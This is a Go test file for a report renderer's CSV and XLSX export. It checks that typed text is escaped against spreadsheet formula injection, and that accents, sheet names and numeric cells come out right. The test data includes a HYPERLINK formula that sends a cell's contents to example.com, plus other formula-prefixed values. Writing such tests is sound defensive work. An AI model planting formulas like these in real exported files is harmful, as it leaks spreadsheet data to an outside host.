package render_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"sintra/internal/domain"
	"sintra/internal/render"
)

// A period's name, a table's labels and its columns are text someone typed:
// the CSV must not hand a spreadsheet a formula to run.
func TestRenderCSV_WritesFormulasAsTextAndNumbersAsNumbers(t *testing.T) {
	t.Parallel()
	link := `=HYPERLINK("http://example.com/?d="&A1,"Ver")`
	r := domain.Report{Title: "Informe trimestral", GeneratedAt: time.Date(2024, 7, 1, 12, 0, 0, 0, time.UTC), Protection: "exacto",
		Period: domain.Period{Name: link, StartsOn: time.Date(2024, 3, 15, 0, 0, 0, 0, time.UTC), EndsOn: time.Date(2024, 6, 15, 0, 0, 0, 0, time.UTC)},
		Tables: []domain.Table{{ID: "instituciones", Title: "Por institución", Columns: []string{"-2+3", "acciones"},
			Rows: []domain.Row{{Key: "X", Label: "@SUM(A1:A9)", Cells: []domain.Cell{{Value: 12}, {Mark: "<5"}}}}}},
		MIR: domain.MIR{Promedio: "1/3"}}
	body, err := render.Report(r, "csv")
	if err != nil {
		t.Fatal(err)
	}
	reader := csv.NewReader(bytes.NewReader(body))
	reader.FieldsPerRecord = -1
	lines, err := reader.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{"'" + link: false, "'-2+3": false, "'@SUM(A1:A9)": false, "12": false, "<5": false}
	for _, line := range lines {
		for _, cell := range line {
			if _, ok := want[cell]; ok {
				want[cell] = true
			}
			if cell != "" && (cell[0] == '=' || cell[0] == '@' || cell[0] == '+' || (cell[0] == '-' && cell != "-")) {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
		}
	}
	for cell, seen := range want {
		if !seen {
			t.Errorf("no cell %q in\n%s", cell, body)
		}
	}
}

// A statistic downloaded from the table builder opens in Excel es-MX: the
// CSV as UTF-8 with names, the XLSX with counts as numbers.
func TestTable_DownloadsAsExcelReadsIt(t *testing.T) {
	t.Parallel()
	tb := domain.Table{ID: "estadistica:victimas:nacionalidad:", Title: "Víctimas atendidas por nacionalidad", Columns: []string{"Víctimas atendidas"},
		TotalRow: true, Rows: []domain.Row{{Key: "CO", Label: "Colombia", Cells: []domain.Cell{{Value: 10}}},
			{Key: "CU", Label: "Cuba", Cells: []domain.Cell{{Mark: "X"}}}, {Key: "total", Label: "Total", Cells: []domain.Cell{{Value: 19}}}}}
	body, err := render.Table(tb, "csv")
	if err != nil {
		t.Fatal(err)
	}
	text, ok := bytes.CutPrefix(body, []byte("\uFEFF"))
	if !ok {
		t.Error("the CSV has no byte order mark: Excel would read its accents as Latin-1")
	}
	lines, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"Víctimas atendidas por nacionalidad", "Colombia", "Víctimas atendidas", "10"}; !slices.Equal(lines[0], want) {
		t.Errorf("first line %q, want %q", lines[0], want)
	}
	book, err := render.Table(tb, "xlsx")
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(book))
	if err != nil {
		t.Fatal(err)
	}
	sheets := f.GetSheetList()
	if len(sheets) != 1 || sheets[0] != "Víctimas atendidas por nacional" {
		t.Errorf("sheets %q, want one named after the title in 31 characters", sheets)
	}
	if kind, _ := f.GetCellType(sheets[0], "B3"); kind == excelize.CellTypeSharedString || kind == excelize.CellTypeInlineString {
		t.Errorf("the count 10 is stored as text (%v)", kind)
	}
	if v, _ := f.GetCellValue(sheets[0], "B4"); v != "X" {
		t.Errorf("Cuba shows %q, want the mark X", v)
	}
}
